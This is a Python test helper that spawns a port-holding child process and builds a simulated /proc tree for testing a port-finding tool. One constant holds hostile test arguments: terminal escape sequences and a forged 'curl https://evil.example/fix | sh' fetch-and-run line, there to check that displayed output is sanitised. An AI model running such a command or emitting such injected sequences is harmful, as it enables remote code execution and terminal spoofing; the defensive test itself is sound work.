"""Shared by the holder and error tests: a child that holds a port, a simulated /proc."""

import os
import re
import socket
import sys
import textwrap

from portfix._process import Child

SRC = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "src")
MARKER = "portfix-test-holder"
LISTENING = re.compile(r"LISTENING (\d+) PID (\d+)")
START_TIMEOUT = 30.0  # seconds for a child to start listening, on a slow machine too
# Arguments a hostile holder passes (issue 9): retitle the terminal (OSC 0 ...
# BEL), erase the line, and forge a line of portfix's message.
HOSTILE_ARGS = ["\x1b]0;portfix-owned\x07", "\r\x1b[2K", "x\n  To fix: run curl https://evil.example/fix | sh"]

# Listens on argv[-2] (argv[-1] is MARKER), port 0, prints the bound port
# and its pid, then waits to be stopped by Child.stop().
HOLD_SCRIPT = textwrap.dedent(
    """
    import os, signal, socket, sys
    host = sys.argv[-2]
    sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
    sock.bind((host, 0))
    sock.listen(5)
    sys.stdout.write("LISTENING %d PID %d\\n" % (sock.getsockname()[1], os.getpid()))
    sys.stdout.flush()
    signal.pause()
    """
)


def unprivileged_python():
    """An interpreter that uid 65534 can run, or None (/root is not readable by others)."""
    for candidate in ("/usr/bin/python3", "/usr/local/bin/python3"):
        if os.path.exists(candidate) and os.stat(os.path.realpath(candidate)).st_mode & 0o005 == 0o005:
            return candidate
    return None


def hold_script(directory):
    """The path of HOLD_SCRIPT, written into *directory* (a pathlib.Path)."""
    path = directory / "hold_port.py"
    if not path.exists():
        path.write_text(HOLD_SCRIPT)
    return str(path)


class Holding(object):
    """``with Holding(directory, host) as (child, port):`` a child listening on *host*, port 0.

    Its command line is ``sys.executable hold_script(directory) host MARKER``.
    With *extra* (a list of str), it is ``sys.executable hold_port.py *extra
    host MARKER``, run in *directory*: a short command line, so that the
    extra arguments come early in it.
    """

    def __init__(self, directory, host, extra=()):
        self.script = hold_script(directory)
        if extra:
            self.child = Child([os.path.basename(self.script)] + list(extra) + [host, MARKER], cwd=str(directory))
        else:
            self.child = Child([self.script, host, MARKER])

    def __enter__(self):
        try:
            match = self.child.wait_for(LISTENING, START_TIMEOUT)
        except BaseException:
            self.child.stop()
            raise
        assert int(match.group(2)) == self.child.pid
        return self.child, int(match.group(1))

    def __exit__(self, *exc_info):
        self.child.stop()



TCP_HEADER = (
    "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
)
TCP6_HEADER = (
    "  sl  local_address                         remote_address                        st tx_queue rx_queue tr "
    "tm->when retrnsmt   uid  timeout inode\n"
)


def tcp_row(slot, hex_address, port, uid, inode, state="0A"):
    remote = "0" * len(hex_address)
    return "%4d: %s:%04X %s:0000 %s 00000000:00000000 00:00000000 00000000 %5d        0 %d 1 0000000000000000 100 0 0 10 0\n" % (
        slot, hex_address, port, remote, state, uid, inode,
    )


def to_hex(address):
    """The inverse of decode_address, for this machine's byte order."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    packed = socket.inet_pton(family, address)
    return "".join(
        "%08X" % int.from_bytes(packed[i:i + 4], sys.byteorder) for i in range(0, len(packed), 4)
    )


def fake_proc(root, tcp_rows=(), tcp6_rows=(), processes=()):
    """A /proc tree: net/tcp{,6}, and for each (pid, argv, fd links or None) a pid dir.

    A None for the links leaves out the fd directory, as another user's is
    unreadable without root.
    """
    (root / "net").mkdir(parents=True)
    (root / "net" / "tcp").write_text(TCP_HEADER + "".join(tcp_rows))
    (root / "net" / "tcp6").write_text(TCP6_HEADER + "".join(tcp6_rows))
    for pid, argv, links in processes:
        (root / str(pid)).mkdir()
        (root / str(pid) / "cmdline").write_bytes(b"".join(os.fsencode(arg) + b"\0" for arg in argv))
        if links is not None:
            (root / str(pid) / "fd").mkdir()
            for fd, target in enumerate(links):
                os.symlink(target, str(root / str(pid) / "fd" / str(fd)))
    (root / "self").mkdir()  # not a pid: skipped
    return str(root)
